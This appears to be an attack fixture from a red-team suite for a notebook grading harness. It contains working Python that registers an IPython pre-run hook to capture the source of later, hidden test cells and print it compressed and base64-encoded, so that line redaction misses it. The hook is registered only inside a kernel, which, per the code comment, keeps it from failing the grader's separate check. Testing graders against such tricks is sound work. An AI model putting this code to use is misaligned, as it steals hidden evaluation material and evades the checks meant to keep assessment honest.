# attack: record the source of every later cell (the hidden tests) with an IPython event hook and print it,
# compressed and base64-encoded, at the start of the next cell: verbatim-line redaction cannot see it
# base: all_right
# cell: dyna_q_model_update
import base64 as _b64
import zlib as _zlib

_exfil_seen = []


def _exfil_record(info):
    _exfil_seen.append(info.raw_cell)
    print("EXFIL hooks", _b64.b64encode(_zlib.compress("\n#----\n".join(_exfil_seen).encode())).decode())


# Only in a kernel: the grader's fresh process that checks the function has no IPython (and would fail it).
if "get_ipython" in globals():
    get_ipython().events.register("pre_run_cell", _exfil_record)
